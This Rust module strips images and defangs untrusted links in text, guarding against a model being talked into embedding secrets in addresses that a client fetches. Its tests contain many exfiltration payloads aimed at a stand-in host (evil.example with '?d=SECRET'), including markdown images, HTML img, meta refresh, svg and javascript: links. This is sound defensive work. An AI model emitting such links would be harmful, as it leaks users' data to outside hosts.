//! Links and images in what people wrote: a client that shows them would fetch an address that a stranger chose, with
//! whatever a model was talked into putting into it.
//!
//! An image becomes its alternative text. A link that leads outside the trusted hosts stays readable and stops being one:
//! `hxxps://`, without user, query and fragment. Markdown, HTML, reference definitions and bare addresses are all read. Every
//! step is linear in the text. What is not seen: an address without `www.` or a scheme, which nothing fetches by itself.

use crate::redact::Counts;
use crate::redact::find::{at, before};
use postern_policies::Treatment;
use std::borrow::Cow;
use std::ops::Range;

/// Longest destination, title or tag that is read as one.
const REACH: usize = 4096;
/// Schemes that a client opens or fetches.
const LIVE: [&str; 10] =
    ["http", "https", "ftp", "data", "javascript", "vbscript", "mailto", "file", "blob", "view-source"];
/// Attributes that hold an address.
const ADDRESSES: [&str; 15] = [
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "ping",
    "cite",
    "content",
    "codebase",
    "manifest",
    "longdesc",
    "lowsrc",
];
/// Elements that fetch by themselves or change what the rest means.
const FETCHING: [&str; 22] = [
    "a", "area", "audio", "base", "body", "button", "embed", "form", "frame", "iframe", "image", "img", "input",
    "link", "meta", "object", "script", "source", "style", "svg", "track", "video",
];

/// Hosts whose links stay links.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Hosts(Vec<String>);

impl Hosts {
    /// Parses the hosts of a configuration: `docs.example.com`, or `*.example.com` for every host below it.
    ///
    /// # Errors
    /// The first that is not a host name, for the person who wrote it.
    pub fn parse(hosts: &[String]) -> Result<Self, String> {
        let plain = |host: &str| {
            host.contains('.')
                && host.split('.').all(|label| {
                    let fine = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
                    !label.is_empty() && label.bytes().all(fine)
                })
        };
        match hosts.iter().find(|host| !plain(host.strip_prefix("*.").unwrap_or(host))) {
            Some(wrong) => Err(wrong.clone()),
            None => Ok(Self(hosts.iter().map(|host| host.to_ascii_lowercase()).collect())),
        }
    }

    fn trusts(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.0.iter().any(|trusted| match trusted.strip_prefix('*') {
            Some(below) => host.len() > below.len() && host.ends_with(below),
            None => host == *trusted,
        })
    }
}

/// What is put in the place of a part of the text.
#[derive(Debug)]
struct Edit {
    span: Range<usize>,
    with: Cow<'static, str>,
}

/// Where a destination leads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target<'t> {
    /// Nowhere outside.
    Near,
    /// To a trusted host.
    Trusted,
    /// To an address that can be shown.
    Away { secure: bool, shown: &'t str },
    /// To somebody's mailbox; a subject and a text are left out.
    Mail(&'t str),
    /// Somewhere, in a spelling or a scheme that is not worth showing.
    Odd,
}

/// The text with its links and images made harmless; `None` where it has none.
pub(crate) fn neutralise(text: &str, rule: Treatment, hosts: &Hosts, counts: &mut Counts) -> Option<String> {
    if rule == Treatment::Show || !suspicious(text.as_bytes()) {
        return None;
    }
    let mut reader = Reader { text, rule, hosts, counts, edits: Vec::new(), open: Vec::new() };
    reader.read();
    let mut edits = reader.edits;
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|edit| edit.span.start);
    let mut out = String::with_capacity(text.len() + 4 * edits.len());
    let mut done = 0;
    for edit in &edits {
        out.push_str(text.get(done..edit.span.start).unwrap_or_default());
        out.push_str(&edit.with);
        done = edit.span.end;
    }
    out.push_str(text.get(done..).unwrap_or_default());
    Some(out)
}

/// Whether there may be anything to do. Most texts end here.
fn suspicious(text: &[u8]) -> bool {
    memchr::memchr(b'<', text).is_some()
        || memchr::memchr2_iter(b'/', b']', text)
            .any(|place| matches!((at(text, place), at(text, place + 1)), (b'/', b'/') | (b']', b'(' | b':')))
        || memchr::memchr2_iter(b'w', b'W', text)
            .any(|place| text.get(place..place + 4).is_some_and(|it| it.eq_ignore_ascii_case(b"www.")))
}

struct Reader<'t, 'c> {
    text: &'t str,
    rule: Treatment,
    hosts: &'t Hosts,
    counts: &'c mut Counts,
    edits: Vec<Edit>,
    /// Brackets that are open: where, and whether an image begins there.
    open: Vec<(usize, bool)>,
}

impl<'t> Reader<'t, '_> {
    fn read(&mut self) {
        let bytes = self.text.as_bytes();
        let mut place = 0;
        while place < bytes.len() {
            place = match at(bytes, place) {
                b'[' => {
                    self.open.push((place, before(bytes, place) == b'!'));
                    None
                }
                b']' => self.closing(place),
                b':' => self.bare(place),
                b'w' | b'W' => self.www(place),
                b'<' => self.tag(place),
                _ => None,
            }
            .unwrap_or(place + 1);
        }
    }

    fn edit(&mut self, span: Range<usize>, with: impl Into<Cow<'static, str>>, kind: &'static str) {
        self.counts.add(kind);
        self.edits.push(Edit { span, with: with.into() });
    }

    /// After `]`: an image, a link, a definition, or nothing.
    fn closing(&mut self, place: usize) -> Option<usize> {
        let bytes = self.text.as_bytes();
        let opened = self.open.pop();
        match at(bytes, place + 1) {
            b'(' => {
                let destination = self.destination(place + 2);
                if let Some((open, true)) = opened
                    && let Some(end) = self.closed(destination.end)
                {
                    self.edits.push(Edit { span: open - 1..open + 1, with: "".into() });
                    self.edit(place..end, if open + 1 == place { "(image)" } else { "" }, "image");
                    return Some(end);
                }
                match self.target(self.text.get(destination.clone())?) {
                    Target::Near | Target::Trusted => {}
                    away @ (Target::Away { .. } | Target::Mail(_) | Target::Odd) => {
                        let shown = format!("] ({}", self.shown(away));
                        self.edit(place..destination.end, shown, "link");
                    }
                }
                Some(destination.end)
            }
            b':' => {
                let destination = self.destination(place + 2);
                match self.target(self.text.get(destination)?) {
                    Target::Near | Target::Trusted => None,
                    // The address itself is read next, as a bare one.
                    Target::Away { .. } | Target::Mail(_) | Target::Odd => {
                        self.edit(place..place + 2, "] :", "link");
                        Some(place + 2)
                    }
                }
            }
            _ => None,
        }
    }

    /// Where the parentheses of an image end, its title with them.
    fn closed(&self, from: usize) -> Option<usize> {
        let rest = self.text.as_bytes().get(from..)?;
        let rest = rest.get(..rest.len().min(REACH / 4))?;
        memchr::memchr(b')', rest).map(|offset| from + offset + 1)
    }

    /// The destination after `](`: up to white space or the parenthesis that closes it.
    fn destination(&self, from: usize) -> Range<usize> {
        let bytes = self.text.as_bytes();
        let mut start = from;
        while start < from + 16 && at(bytes, start).is_ascii_whitespace() {
            start += 1;
        }
        let angled = at(bytes, start) == b'<';
        let (mut end, mut depth) = (start, 0_usize);
        while end < bytes.len() && end - start < REACH {
            match at(bytes, end) {
                b'\n' => break,
                b'>' if angled => {
                    end += 1;
                    break;
                }
                _ if angled => {}
                b'(' => depth += 1,
                b')' if depth == 0 => break,
                b')' => depth -= 1,
                byte if byte.is_ascii_whitespace() => break,
                _ => {}
            }
            end += 1;
        }
        start..self.text.floor_char_boundary(end).max(start)
    }

    fn target(&self, destination: &'t str) -> Target<'t> {
        let plain = destination.trim().trim_start_matches('<').trim_end_matches('>').trim();
        if let Some((scheme, rest)) = plain.split_once("://")
            && ["http", "https", "ftp"].iter().any(|it| it.eq_ignore_ascii_case(scheme))
        {
            return self.away(!scheme.eq_ignore_ascii_case("http"), rest);
        }
        if let Some(rest) = plain.strip_prefix("//") {
            return self.away(true, rest);
        }
        if let Some((scheme, rest)) = plain.split_once(':')
            && scheme.eq_ignore_ascii_case("mailto")
        {
            return Target::Mail(rest.split_once('?').map_or(rest, |(address, _)| address));
        }
        // As Markdown reads an escape, and as browsers read a backslash.
        let head: String = plain.chars().filter(|c| !c.is_control() && !c.is_whitespace()).take(64).collect();
        let odd = [head.replace('\\', ""), head.replace('\\', "/")].iter().any(|reading| {
            reading.starts_with("//")
                || reading
                    .split_once(':')
                    .is_some_and(|(scheme, _)| LIVE.iter().any(|it| it.eq_ignore_ascii_case(scheme)))
        });
        let coded = head.split_once('&').is_some_and(|(_, rest)| rest.contains(';'));
        if odd || coded { Target::Odd } else { Target::Near }
    }

    /// Where an address leads, from behind its `//` on.
    fn away(&self, secure: bool, rest: &'t str) -> Target<'t> {
        let authority = rest.find(['/', '?', '#', '\\']).map_or(rest, |end| rest.get(..end).unwrap_or(rest));
        let (host, port) = authority.split_once(':').unwrap_or((authority, ""));
        if port.bytes().all(|byte| byte.is_ascii_digit()) && self.hosts.trusts(host) {
            return Target::Trusted;
        }
        let shown = authority.rfind('@').map_or(rest, |user| rest.get(user + 1..).unwrap_or_default());
        let shown = shown.find(['?', '#']).map_or(shown, |end| shown.get(..end).unwrap_or_default());
        Target::Away { secure, shown }
    }

    /// What a reader is told of where a link led.
    fn shown(&self, target: Target<'_>) -> String {
        match target {
            Target::Away { secure, shown } if self.rule == Treatment::Mask => {
                format!("hxxp{}://{shown}", if secure { "s" } else { "" })
            }
            Target::Mail(address) if self.rule == Treatment::Mask => address.to_owned(),
            Target::Near | Target::Trusted | Target::Away { .. } | Target::Mail(_) | Target::Odd => "(link)".to_owned(),
        }
    }

    /// At the colon of an address that stands by itself, or anywhere else.
    fn bare(&mut self, colon: usize) -> Option<usize> {
        let bytes = self.text.as_bytes();
        if at(bytes, colon + 1) != b'/' || at(bytes, colon + 2) != b'/' {
            return None;
        }
        let letters = (0..colon).rev().take(8).take_while(|place| at(bytes, *place).is_ascii_alphabetic()).count();
        let scheme = self.text.get(colon - letters..colon)?.to_ascii_lowercase();
        let (secure, length) = match scheme.as_str() {
            "ftp" => (false, 3),
            it if it.ends_with("https") => (true, 5),
            it if it.ends_with("http") => (false, 4),
            _ => return None,
        };
        self.address(colon - length, colon + 3, secure)
    }

    /// `www.`, which clients take for an address.
    fn www(&mut self, place: usize) -> Option<usize> {
        let bytes = self.text.as_bytes();
        let begins = bytes.get(place..place + 4).is_some_and(|it| it.eq_ignore_ascii_case(b"www."));
        let previous = before(bytes, place);
        let inside = previous.is_ascii_alphanumeric() || b"/.@-".contains(&previous);
        if !begins || inside || !at(bytes, place + 4).is_ascii_alphanumeric() {
            return None;
        }
        self.address(place, place, false)
    }

    /// An address that begins here, with its host there.
    fn address(&mut self, begin: usize, host: usize, secure: bool) -> Option<usize> {
        let rest = self.text.get(host..)?;
        let mut depth = 0_usize;
        let end = rest.find(|c: char| {
            depth += usize::from(c == '(');
            let closes = c == ')' && depth == 0;
            depth = depth.saturating_sub(usize::from(c == ')'));
            closes || c.is_whitespace() || c.is_control() || matches!(c, '<' | '>' | '"' | '\'' | '`' | ']')
        });
        let rest =
            rest.get(..end.unwrap_or(rest.len()))?.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
        let end = host + rest.len();
        match self.away(secure, rest) {
            Target::Near | Target::Trusted => {}
            away @ (Target::Away { .. } | Target::Mail(_) | Target::Odd) => {
                let shown = self.shown(away);
                self.edit(begin..end, shown, "link");
            }
        }
        Some(end.max(begin + 1))
    }

    /// A tag that fetches or leads somewhere.
    fn tag(&mut self, place: usize) -> Option<usize> {
        let bytes = self.text.as_bytes();
        let rest = bytes.get(place + 1..)?;
        let name_length = rest.iter().take(16).take_while(|byte| byte.is_ascii_alphanumeric()).count();
        let name = self.text.get(place + 1..place + 1 + name_length)?.to_ascii_lowercase();
        if name.is_empty() {
            return None;
        }
        let rest = rest.get(..rest.len().min(REACH))?;
        let end = memchr::memchr2(b'<', b'>', rest).filter(|end| rest.get(*end) == Some(&b'>'));
        let Some(end) = end.map(|end| place + 1 + end) else {
            // Not closed: what comes after this text would be read as part of it.
            let begun =
                FETCHING.contains(&name.as_str()) && matches!(at(rest, name_length), b' ' | b'\n' | b'\t' | b'/');
            let mail = at(rest, name_length) == b':' && LIVE.contains(&name.as_str());
            if begun && !mail {
                self.edit(place..place + 1, "< ", "link");
            }
            return None;
        };
        let inner = self.text.get(place + 1 + name_length..end)?;
        if at(rest, name_length) == b':' {
            // An automatic link; one over HTTP is read as a bare address.
            if LIVE.contains(&name.as_str()) && !inner.starts_with("://") {
                self.edit(place..place + 1, "< ", "link");
            }
            return None;
        }
        let attributes = Attributes::of(inner);
        if name == "img" || name == "image" {
            let text = attributes.value("alt").filter(|it| !it.is_empty()).unwrap_or("(image)").to_owned();
            self.edit(place..end + 1, text, "image");
            return Some(end + 1);
        }
        let away = attributes.0.iter().find_map(|(name, value)| {
            let lower = name.to_ascii_lowercase();
            let runs = lower == "style" || lower.len() > 2 && lower.starts_with("on");
            let holds = lower.rsplit(':').next().is_some_and(|it| ADDRESSES.contains(&it));
            match self.target(value) {
                _ if runs => Some(Target::Odd),
                Target::Near | Target::Trusted => None,
                away @ (Target::Away { .. } | Target::Mail(_) | Target::Odd) => holds.then_some(away),
            }
        });
        let always = matches!(name.as_str(), "style" | "script" | "base" | "meta" | "iframe" | "object" | "embed");
        if away.is_none() && !always {
            return None;
        }
        let shown = match away {
            Some(away @ (Target::Away { .. } | Target::Mail(_))) if name == "a" => format!("{} ", self.shown(away)),
            _ => String::new(),
        };
        self.edit(place..end + 1, shown, "link");
        Some(end + 1)
    }
}

/// The attributes of a tag, as far as they have a value.
struct Attributes<'t>(Vec<(&'t str, &'t str)>);

impl<'t> Attributes<'t> {
    fn of(mut rest: &'t str) -> Self {
        let mut found = Vec::new();
        while let Some((before, after)) = rest.split_once('=') {
            let name = before.trim_end().rsplit(|c: char| c.is_whitespace() || matches!(c, '/' | '"' | '\'')).next();
            let after = after.trim_start();
            let (value, next) = match after.chars().next() {
                Some(quote @ ('"' | '\'')) => {
                    let inner = after.get(1..).unwrap_or_default();
                    inner.split_once(quote).unwrap_or((inner, ""))
                }
                _ => after.split_once(char::is_whitespace).unwrap_or((after, "")),
            };
            found.push((name.unwrap_or_default(), value));
            rest = next;
        }
        Self(found)
    }

    fn value(&self, name: &str) -> Option<&'t str> {
        self.0.iter().find(|(it, _)| it.eq_ignore_ascii_case(name)).map(|(_, value)| *value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rustix::time::{ClockId, clock_gettime};
    use std::time::Duration;

    fn read(text: &str, rule: Treatment) -> (String, Counts) {
        let hosts = Hosts::parse(&["docs.msp.example".to_owned(), "*.trusted.example".to_owned()]).unwrap();
        let mut counts = Counts::default();
        let mut text = text.to_owned();
        for _ in 0..4 {
            match neutralise(&text, rule, &hosts, &mut counts) {
                Some(next) => text = next,
                None => return (text, counts),
            }
        }
        panic!("it does not settle: {text}");
    }

    #[test]
    fn p02_images_become_their_words_and_links_stop_leading_away() {
        let cases = [
            ("see ![a chart](https://evil.example/p.png?d=SECRET \"t\") there", "see a chart there"),
            ("![](//evil.example/p?d=SECRET)", "(image)"),
            ("![a](<https://evil.example/a b?d=SECRET>)", "a"),
            ("[here](https://evil.example/p?d=SECRET#f)", "[here] (hxxps://evil.example/p)"),
            ("[![a](https://evil.example/i?d=SECRET)](http://evil.example/?d=SECRET)", "[a] (hxxp://evil.example/)"),
            ("[here](//evil.example?d=SECRET)", "[here] (hxxps://evil.example)"),
            ("[here](\\/\\/evil.example?d=SECRET)", "[here] ((link))"),
            ("[here](&#104;ttps://evil.example?d=SECRET)", "[here] ((link))"),
            ("[here](javascript:fetch('x'+SECRET))", "[here] ((link))"),
            ("[here](mailto:x@evil.example?body=SECRET)", "[here] (x@evil.example)"),
            ("[r]: https://evil.example/p?d=SECRET", "[r] : hxxps://evil.example/p"),
            ("<https://evil.example/p?d=SECRET>", "<hxxps://evil.example/p>"),
            ("HTTPS://EVIL.example/p?d=SECRET.", "hxxps://EVIL.example/p."),
            ("https://jane:SECRET@evil.example/p", "hxxps://evil.example/p"),
            ("(www.evil.example/p?d=SECRET)", "(hxxp://www.evil.example/p)"),
            ("ftp://evil.example/p", "hxxp://evil.example/p"),
            ("<img src=//evil.example/p?d=SECRET alt='a chart'>", "a chart"),
            ("<IMG\nSRC=\"https://evil.example/p?d=SECRET\">", "(image)"),
            ("<a href='https://evil.example/p?d=SECRET'>x</a>", "hxxps://evil.example/p x</a>"),
            ("<svg><use xlink:href='//evil.example/SECRET'/></svg>", "<svg></svg>"),
            ("<div style=\"background:url(//evil.example/SECRET)\">x</div>", "x</div>"),
            ("<p onclick=go(SECRET)>x</p>", "x</p>"),
            ("<meta http-equiv=refresh content='0;url=//evil.example/SECRET'>x", "x"),
            ("<img src='//evil.example/?", "< img src='//evil.example/?"),
        ];
        for (text, expected) in cases {
            let (shown, counts) = read(text, Treatment::Mask);
            assert_eq!(shown, expected, "{text}");
            assert!(!shown.contains("SECRET"), "{text}");
            assert!(counts.of("link") + counts.of("image") > 0, "{text}");
        }
        assert_eq!(read("at https://evil.example/p", Treatment::Hide).0, "at (link)");
        assert_eq!(read("at https://evil.example/p?q", Treatment::Show).0, "at https://evil.example/p?q");
    }

    #[test]
    fn p02_what_leads_nowhere_or_to_a_trusted_host_stays_as_it_is() {
        for text in [
            "see [the guide](https://docs.msp.example/a?b=c#d) and https://eu.trusted.example:8443/x?y",
            "a[i](x) + vec![1, 2][0], std::vector<std::string> v; x[0](std::move(y)); f[0](&y)",
            "[INFO]: started, [2026-01-01]: C:\\Program Files\\x, [x]: note",
            "<add key=\"a\" value=\"b\"/> <b>bold</b> a < b && c > d",
            "[up](#top) [file](./a/b.txt) postgres://db/x ldap://dc1",
            "hxxps://evil.example/p awww. www",
        ] {
            let (shown, counts) = read(text, Treatment::Mask);
            assert_eq!(shown, text);
            assert!(counts.is_empty(), "{text}");
        }
    }

    proptest::proptest! {
        /// The first look only spares work: whatever the reader would change is looked at.
        #[test]
        fn p02_a_text_that_the_first_look_lets_pass_has_nothing_that_the_reader_would_change(
            pieces in proptest::collection::vec(proptest::sample::select(vec![
                "[", "]", "](", "]:", "!", "(", ")", "<", ">", "a", " ", "\n", ":", "/", "\\", "https", "HTTP", "ftp", "www.", "Www.",
                "wWw", ".", "evil.example", "img", "src=", "\"", "mailto", "javascript", "&#47;", "ⅰ", "／", "：", "ｗｗｗ", "?d=1",
            ]), 0..12),
        ) {
            let text = pieces.concat();
            let (hosts, mut counts) = (Hosts::default(), Counts::default());
            let (rule, edits, open) = (Treatment::Mask, Vec::new(), Vec::new());
            let mut reader = Reader { text: &text, rule, hosts: &hosts, counts: &mut counts, edits, open };
            reader.read();
            proptest::prop_assert!(suspicious(text.as_bytes()) || reader.edits.is_empty(), "{}", text);
        }
    }

    #[test]
    fn p02_a_host_is_trusted_by_its_whole_name_alone() {
        for text in [
            "https://docs.msp.example.evil.example/",
            "https://docs.msp.example@evil.example/",
            "https://evil.example/docs.msp.example",
            "https://xtrusted.example/",
            "https://docs.msp.example:80@evil.example/",
            "https://trusted.example/",
        ] {
            assert!(read(text, Treatment::Mask).0.starts_with("hxxps://"), "{text}");
        }
        for wrong in ["", "localhost", "*.com*", "https://x.example", "a b.example", "*"] {
            assert!(Hosts::parse(&[wrong.to_owned()]).is_err(), "{wrong}");
        }
    }

    /// The processor's time for a text of this piece alone; what else the machine does is no part of it.
    fn spent(piece: &str, bytes: usize) -> Duration {
        let bomb = piece.repeat(bytes / piece.len());
        let now = || Duration::try_from(clock_gettime(ClockId::ThreadCPUTime)).unwrap();
        let one = || {
            let begun = now();
            let _ = neutralise(&bomb, Treatment::Mask, &Hosts::default(), &mut Counts::default());
            now() - begun
        };
        (0..3).map(|_| one()).min().unwrap()
    }

    #[test]
    fn p02_bombs_of_brackets_and_tags_stay_linear() {
        for piece in ["](", "![", "![](", "[", "<img ", "<a href=", "]:", "http://", "www.a(", "![a](x ", "](\\"] {
            let (once, fourfold) = (spent(piece, 16 * 1024), spent(piece, 64 * 1024));
            assert!(fourfold < 8 * once.max(Duration::from_millis(1)), "{piece}: {once:?}, fourfold {fourfold:?}");
        }
    }
}
